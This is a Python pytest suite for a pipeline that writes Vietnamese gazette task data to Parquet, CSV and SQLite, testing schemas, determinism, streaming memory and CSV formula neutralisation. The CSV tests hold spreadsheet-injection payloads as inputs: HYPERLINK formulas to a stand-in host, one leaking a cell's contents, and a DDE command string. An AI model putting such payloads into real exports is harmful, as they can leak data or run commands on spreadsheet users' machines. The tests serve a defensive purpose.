"""The dataset writers: typed Parquet, flat CSV with formulas neutralised, streaming, determinism."""
from __future__ import annotations

import copy
import csv
import datetime as dt
import json
import sqlite3
import tracemalloc
from dataclasses import dataclass, field
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from pipelines.writers import files as writers
from pipelines.writers.fields import FIELDS
from pipelines.writers.files import arrow_schema, neutralise, write_dataset

KINDS = ("tasks", "documents", "references")
VIEW_KINDS = ("tasks", "documents", "references", "tables", "table_rows")
ALL = ("csv", "parquet", "sqlite")


@dataclass
class Outcome:
    """What batch.py passes for one PDF (FileOutcome without the bookkeeping)."""

    file: str
    tasks: list = field(default_factory=list)
    documents: list = field(default_factory=list)
    references: list = field(default_factory=list)
    tables: list = field(default_factory=list)
    error: dict | None = None


def jsonl(folder: Path, kind: str) -> list[dict]:
    return [json.loads(x) for x in (folder / f"{kind}.jsonl").read_text(encoding="utf-8").splitlines()]


def dev_outcomes(folder: Path) -> list[Outcome]:
    """The dev outputs cut back into one outcome per PDF, as the batch gives them."""
    by_file: dict[str, Outcome] = {}
    for kind in (*KINDS, "tables"):
        for r in jsonl(folder, kind):
            name = r["source"]["file"]
            getattr(by_file.setdefault(name, Outcome(file=name)), kind).append(r)
    return [by_file[k] for k in sorted(by_file)]


def renamed(outcome: Outcome, n: int) -> Outcome:
    """A copy of ``outcome`` as if read from another PDF (``copy-N-…``): new file name and ids."""
    o = copy.deepcopy(outcome)
    stem = Path(o.file).stem
    o.file = f"copy-{n}-{o.file}"
    for kind in (*KINDS, "tables"):
        for r in getattr(o, kind):
            r["source"]["file"] = r["source"]["path"] = o.file
            for key in ("task_id", "table_id"):
                if key in r:
                    r[key] = f"copy-{n}-{stem}" + r[key][len(stem):]
    return o


# ---------------------------------------------------------------- Parquet


@pytest.mark.parametrize("kind", VIEW_KINDS)
def test_parquet_schema_is_the_declared_typed_schema(dev_outputs, kind):
    table = pq.read_table(dev_outputs / f"{kind}.parquet")
    assert table.schema.equals(arrow_schema(kind), check_metadata=False)
    expected = (sum(len(t["rows"]) for t in jsonl(dev_outputs, "tables")) if kind == "table_rows"
                else len(jsonl(dev_outputs, kind)))
    assert table.num_rows == expected > 0
    types = {f.name: f.type for f in table.schema}
    assert not all(t == pa.string() for t in types.values())
    if kind in ("tasks", "documents", "tables"):
        assert types["gazette_date"] == pa.date32()


def test_parquet_tasks_read_back_typed_in_pandas_and_pyarrow(dev_outputs):
    tasks = jsonl(dev_outputs, "tasks")
    table = pq.read_table(dev_outputs / "tasks.parquet")
    types = {f.name: f.type for f in table.schema}
    assert types["source_pages"] == pa.list_(pa.int32())
    assert types["gazette_issue"] == pa.int32() and types["source_ocr"] == pa.bool_()
    assert types["deadline_end"] == pa.date32() and types["source_confidence"] == pa.float64()
    assert pa.types.is_struct(types["lead"].value_type)
    assert [f.name for f in types["lead"].value_type] == ["raw", "name", "collective"]
    assert types["legal_refs"].value_type.field("date").type == pa.date32()
    assert pa.types.is_map(types["cells"])
    rows = table.to_pylist()
    assert [r["task_id"] for r in rows] == [t["task_id"] for t in tasks]
    for row, t in zip(rows, tasks):
        assert row["lead"] == t["lead"] and row["support"] == t["support"]
        assert row["source_pages"] == t["source"]["pages"]
        assert row["deadline_end"] == (dt.date.fromisoformat(t["deadline"]["end"])
                                       if t["deadline"] and t["deadline"]["end"] else None)
        assert (dict(row["cells"]) if row["cells"] is not None else None) == t["cells"]
    df = pd.read_parquet(dev_outputs / "tasks.parquet")
    assert str(df["gazette_issue"].dtype) == "int32" and str(df["source_ocr"].dtype) == "bool"
    assert isinstance(df["deadline_end"].dropna().iloc[0], dt.date)
    assert list(df["lead"].iloc[0][0]) == ["raw", "name", "collective"]


def test_parquet_documents_and_references_read_back_typed(dev_outputs):
    docs = pd.read_parquet(dev_outputs / "documents.parquet")
    first = jsonl(dev_outputs, "documents")[0]
    assert docs["date"].iloc[0] == dt.date.fromisoformat(first["date"])
    assert int(docs["tasks"].iloc[0]) == first["tasks"] and str(docs["tasks"].dtype) == "int32"
    assert list(docs["source_pages"].iloc[0]) == first["source"]["pages"]
    refs = pq.read_table(dev_outputs / "references.parquet").to_pylist()
    expected = jsonl(dev_outputs, "references")
    assert [r["key"] for r in refs] == [r["key"] for r in expected]
    assert [r["self"] for r in refs] == [r["self"] for r in expected]
    assert [r["warnings"] for r in refs] == [r["warnings"] for r in expected]


def test_empty_dataset_has_the_same_schemas(tmp_path):
    write_dataset(tmp_path, iter(()), ALL)
    for kind in (*KINDS, "tables"):
        assert (tmp_path / f"{kind}.jsonl").read_bytes() == b""
    for kind in VIEW_KINDS:
        table = pq.read_table(tmp_path / f"{kind}.parquet")
        assert table.num_rows == 0 and table.schema.equals(arrow_schema(kind), check_metadata=False)
        header = (tmp_path / f"{kind}.csv").read_text(encoding="utf-8-sig").splitlines()
        assert header == [",".join(FIELDS[kind][i].name for i in range(len(FIELDS[kind])))]
    con = sqlite3.connect(tmp_path / "congbao.sqlite")
    assert con.execute("SELECT count(*) FROM tasks_fts").fetchone() == (0,)
    assert json.loads((tmp_path / "metadata.json").read_text(encoding="utf-8"))["databases"]["congbao"]


# ---------------------------------------------------------------- CSV


@pytest.mark.parametrize("cell, expected", [
    ('=HYPERLINK("http://evil.example","bấm")', '\'=HYPERLINK("http://evil.example","bấm")'),  # the classic
    ("+84 290 3831", "'+84 290 3831"),        # a phone number a spreadsheet would add up
    ("- Tổ chức hội nghị", "'- Tổ chức hội nghị"),  # a bullet dash is a formula start too
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\tcmd", "'\tcmd"),
    ("\rcmd", "'\rcmd"),
    ("Sở Nội vụ", "Sở Nội vụ"),               # ordinary text untouched
    ("59/2012/NĐ-CP", "59/2012/NĐ-CP"),       # a dash inside is harmless
    ("", ""),
], ids=["hyperlink", "plus", "dash", "at", "tab", "cr", "text", "inner-dash", "empty"])
def test_neutralise(cell, expected):
    assert neutralise(cell) == expected


def test_csv_neutralises_formulas_and_only_csv(dev_outputs, tmp_path):
    outcome = dev_outcomes(dev_outputs)[0]
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
    outcome.tasks[0]["text"] = evil
    outcome.tasks[0]["lead"][0]["name"] = "+Sở Nội vụ"
    outcome.documents[0]["title"] = "@cmd|' /C calc'!A0"
    write_dataset(tmp_path, [outcome], ALL)
    with open(tmp_path / "tasks.csv", encoding="utf-8-sig", newline="") as f:
        first = next(csv.DictReader(f))
    assert first["text"] == "'" + evil
    assert first["lead"].startswith("'+Sở Nội vụ")
    with open(tmp_path / "documents.csv", encoding="utf-8-sig", newline="") as f:
        assert next(csv.DictReader(f))["title"] == "'@cmd|' /C calc'!A0"
    # The other views keep the text as printed.
    assert jsonl(tmp_path, "tasks")[0]["text"] == evil
    assert pq.read_table(tmp_path / "tasks.parquet").column("text")[0].as_py() == evil
    con = sqlite3.connect(tmp_path / "congbao.sqlite")
    assert con.execute("SELECT text FROM tasks WHERE rowid = 1").fetchone() == (evil,)


def test_csv_has_one_flat_row_per_record_with_gazette_and_deadline(dev_outputs):
    for kind in KINDS:
        with open(dev_outputs / f"{kind}.csv", encoding="utf-8-sig", newline="") as f:
            rows = list(csv.DictReader(f))
        records = jsonl(dev_outputs, kind)
        assert len(rows) == len(records)
    with open(dev_outputs / "tasks.csv", encoding="utf-8-sig", newline="") as f:
        tasks_csv = list(csv.DictReader(f))
    tasks = jsonl(dev_outputs, "tasks")
    for row, t in zip(tasks_csv, tasks):
        assert row["task_id"] == t["task_id"]
        assert row["gazette_name"] == t["gazette"]["name"] and row["gazette_issue"] == str(t["gazette"]["issue"])
        d = t["deadline"] or {}
        assert (row["deadline_kind"], row["deadline_end"], row["deadline_amount"]) == (
            d.get("kind") or "", d.get("end") or "", "" if d.get("amount") is None else str(d["amount"]))
        assert row["lead"] == neutralise("; ".join(a["name"] for a in t["lead"]))
        assert (json.loads(row["cells"]) if row["cells"] else None) == t["cells"]
        assert row["document_id"] and t["task_id"].startswith(row["document_id"] + "/")


# ---------------------------------------------------------------- the whole dataset


def test_same_outcomes_give_byte_identical_files(dev_outputs, tmp_path):
    outcomes = dev_outcomes(dev_outputs)
    write_dataset(tmp_path / "a", iter(outcomes), ALL)
    write_dataset(tmp_path / "b", iter(copy.deepcopy(outcomes)), ALL)
    names = sorted(p.name for p in (tmp_path / "a").iterdir())
    assert names == sorted(p.name for p in (tmp_path / "b").iterdir())
    assert {"tasks.parquet", "documents.csv", "references.parquet", "congbao.sqlite", "metadata.json"} <= set(names)
    for name in names:
        assert (tmp_path / "a" / name).read_bytes() == (tmp_path / "b" / name).read_bytes(), name


def test_jsonl_lines_are_the_records_as_dumped(dev_outputs, tmp_path):
    outcomes = dev_outcomes(dev_outputs)
    write_dataset(tmp_path, outcomes, ())
    for kind in (*KINDS, "tables"):
        assert (tmp_path / f"{kind}.jsonl").read_bytes() == (dev_outputs / f"{kind}.jsonl").read_bytes()
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(f"{k}.jsonl" for k in (*KINDS, "tables"))


def test_files_are_created_honouring_the_umask(dev_outputs, tmp_path):
    import os

    old = os.umask(0o022)
    try:
        write_dataset(tmp_path, dev_outcomes(dev_outputs), ALL)
        writers.write_atomic(tmp_path / "manifest.json", b"{}\n")
    finally:
        os.umask(old)
    for p in tmp_path.iterdir():
        assert p.stat().st_mode & 0o777 == 0o644, p.name


def _peak_bytes(outcomes) -> int:
    import tempfile

    with tempfile.TemporaryDirectory() as out:
        tracemalloc.start()
        try:
            write_dataset(Path(out), outcomes, ALL)
            return tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()


def test_memory_stays_flat_as_the_number_of_files_grows(dev_outputs, monkeypatch):
    monkeypatch.setattr(writers, "ROW_GROUP_ROWS", 200)
    base = dev_outcomes(dev_outputs)[0]

    def stream(n):  # a generator: consumed once, each outcome made only when asked for
        return (renamed(base, i) for i in range(n))

    small, large = _peak_bytes(stream(5)), _peak_bytes(stream(60))
    # 12 times the records; holding them all would take ~12 times the memory.
    assert large < 2 * small, (small, large)


def test_parquet_is_written_in_row_groups(dev_outputs, tmp_path, monkeypatch):
    monkeypatch.setattr(writers, "ROW_GROUP_ROWS", 20)
    monkeypatch.setattr(writers, "CONVERT_ROWS", 8)
    write_dataset(tmp_path, dev_outcomes(dev_outputs), ("parquet",))
    meta = pq.ParquetFile(tmp_path / "tasks.parquet").metadata
    assert meta.num_rows == len(jsonl(dev_outputs, "tasks")) and meta.num_row_groups >= 3
    assert set(meta.metadata or {}) <= {b"ARROW:schema"}   # no clock or host in the footer


def test_two_files_of_one_name_in_two_folders_keep_every_record_in_every_view(dev_outputs, tmp_path):
    # 2023/cb.pdf and 2024/cb.pdf: the same file name, other gazettes; ids derive from source.path.
    outcomes = []
    for year, outcome in zip(("2023", "2024"), dev_outcomes(dev_outputs)):
        o = copy.deepcopy(outcome)
        stem = Path(o.file).stem
        for kind in (*KINDS, "tables"):
            for r in getattr(o, kind):
                r["source"]["file"], r["source"]["path"] = "cb.pdf", f"{year}/cb.pdf"
                for key in ("task_id", "table_id"):
                    if key in r:
                        r[key] = f"{year}/cb" + r[key][len(stem):]
        o.file = "cb.pdf"
        outcomes.append(o)
    write_dataset(tmp_path, outcomes, ALL)
    con = sqlite3.connect(tmp_path / "congbao.sqlite")
    for kind, key in (("tasks", "task_id"), ("documents", "document_id"), ("references", "reference_id"),
                      ("tables", "table_id")):
        n = sum(len(getattr(o, kind)) for o in outcomes)
        assert con.execute(f'SELECT count(*), count(DISTINCT {key}) FROM "{kind}"').fetchone() == (n, n), kind
        assert pq.read_table(tmp_path / f"{kind}.parquet").num_rows == n
        with open(tmp_path / f"{kind}.csv", encoding="utf-8-sig", newline="") as f:
            ids = [r[key] for r in csv.DictReader(f)]
        assert len(ids) == len(set(ids)) == n, kind
    # Each task points at its own file's document, never the other folder's.
    pairs = con.execute("SELECT t.source_path, d.source_path FROM tasks t JOIN documents d USING (document_id)")
    assert {a == b for a, b in pairs} == {True}
    assert con.execute("SELECT count(*) FROM tasks WHERE document_id IS NULL").fetchone() == (0,)


def test_tables_are_two_views_one_row_per_table_and_one_per_row(dev_outputs, tmp_path):
    outcomes = dev_outcomes(dev_outputs)
    write_dataset(tmp_path, outcomes, ALL)
    tables = [t for o in outcomes for t in o.tables]
    rows = [(t["table_id"], k, r) for t in tables for k, r in enumerate(t["rows"], 1)]
    assert tables and rows
    con = sqlite3.connect(tmp_path / "congbao.sqlite")
    got = con.execute('SELECT table_id, kind, header, roles, document_id FROM "tables" ORDER BY rowid').fetchall()
    assert [(t, k, json.loads(h), json.loads(r)) for t, k, h, r, _ in got] == [
        (t["table_id"], t["kind"], t["header"], t["roles"]) for t in tables]
    assert all(d is not None for *_, d in got)
    got_rows = con.execute("SELECT table_id, row, number, cells, total FROM table_rows ORDER BY rowid").fetchall()
    assert [(t, k, n, json.loads(c), bool(x)) for t, k, n, c, x in got_rows] == [
        (t, k, r["number"], r["cells"], r["total"]) for t, k, r in rows]
    # The rows join to their table and their document.
    assert con.execute('SELECT count(*) FROM table_rows r JOIN "tables" t USING (table_id) '
                       "JOIN documents d ON d.document_id = r.document_id").fetchone() == (len(rows),)
    assert con.execute("PRAGMA foreign_key_check").fetchall() == []
    # CSV and Parquet: the same two views.
    assert pq.read_table(tmp_path / "tables.parquet").column("table_id").to_pylist() == [t["table_id"] for t in tables]
    parquet_rows = pq.read_table(tmp_path / "table_rows.parquet").to_pylist()
    assert [(r["table_id"], r["row"], dict(r["cells"])) for r in parquet_rows] == [(t, k, r["cells"]) for t, k, r in rows]
    with open(tmp_path / "table_rows.csv", encoding="utf-8-sig", newline="") as f:
        csv_rows = list(csv.DictReader(f))
    assert [(r["table_id"], int(r["row"]), json.loads(r["cells"])) for r in csv_rows] == [
        (t, k, r["cells"]) for t, k, r in rows]


def test_tasks_written_in_the_body_pass_through_every_view(dev_outputs, tmp_path):
    # A body task (SPEC "Tasks written in the body"): origin "body", cells null, number a label path.
    outcome = dev_outcomes(dev_outputs)[0]
    body = copy.deepcopy(outcome.tasks[0])
    body.update(task_id=body["task_id"].rsplit("/", 2)[0] + "/B/IV.4", origin="body", cells=None, number="IV.4",
                group={"number": "IV", "title": "Tổ chức thực hiện", "parent": None},
                text="Sở Tài chính tham mưu, bố trí kinh phí để triển khai thực hiện Kế hoạch")
    outcome.tasks.append(body)
    write_dataset(tmp_path, [outcome], ALL)
    con = sqlite3.connect(tmp_path / "congbao.sqlite")
    assert con.execute("SELECT origin, cells, number FROM tasks WHERE task_id = ?", [body["task_id"]]).fetchone() == (
        "body", None, "IV.4")
    assert con.execute("SELECT count(*) FROM task_agencies WHERE task_id = ? AND role = 'lead'",
                       [body["task_id"]]).fetchone() == (len(body["lead"]),)
    assert con.execute("SELECT count(*) FROM tasks WHERE rowid IN (SELECT rowid FROM tasks_fts "
                       "WHERE tasks_fts MATCH 'kinh phi')").fetchone()[0] >= 1
    parquet = pq.read_table(tmp_path / "tasks.parquet").to_pylist()[-1]
    assert (parquet["origin"], parquet["cells"], parquet["number"]) == ("body", None, "IV.4")
    with open(tmp_path / "tasks.csv", encoding="utf-8-sig", newline="") as f:
        last = list(csv.DictReader(f))[-1]
    assert (last["origin"], last["cells"], last["number"]) == ("body", "", "IV.4")


@pytest.mark.parametrize("bom", [True, False], ids=["bom", "no-bom"])
def test_csv_starts_with_a_byte_order_mark_unless_asked_not_to(dev_outputs, tmp_path, bom):
    write_dataset(tmp_path, dev_outcomes(dev_outputs), ("csv",), csv_bom=bom)
    for kind in VIEW_KINDS:
        data = (tmp_path / f"{kind}.csv").read_bytes()
        assert data.startswith(b"\xef\xbb\xbf") is bom, kind
        assert data.count(b"\xef\xbb\xbf") == int(bom)   # once, at the start
    # Excel's UTF-8 reading, as Python's utf-8-sig does it: the header is the column names, not "\ufefftask_id".
    with open(tmp_path / "tasks.csv", encoding="utf-8-sig", newline="") as f:
        assert next(csv.reader(f))[0] == "task_id"


def test_a_record_whose_id_is_taken_is_left_out_of_sqlite_with_a_warning(dev_outputs, tmp_path, caplog):
    # Cannot happen from a run (names are unique in a dataset): the writer still never fails on it.
    outcome = dev_outcomes(dev_outputs)[0]
    write_dataset(tmp_path, [outcome, copy.deepcopy(outcome)], ("sqlite",))
    n = len(outcome.tasks)
    assert len(jsonl(tmp_path, "tasks")) == 2 * n
    con = sqlite3.connect(tmp_path / "congbao.sqlite")
    assert con.execute("SELECT count(*), count(DISTINCT task_id) FROM tasks").fetchone() == (n, n)
    assert con.execute("SELECT count(*) FROM tasks_fts").fetchone() == (n,)
    assert "left out of congbao.sqlite" in caplog.text
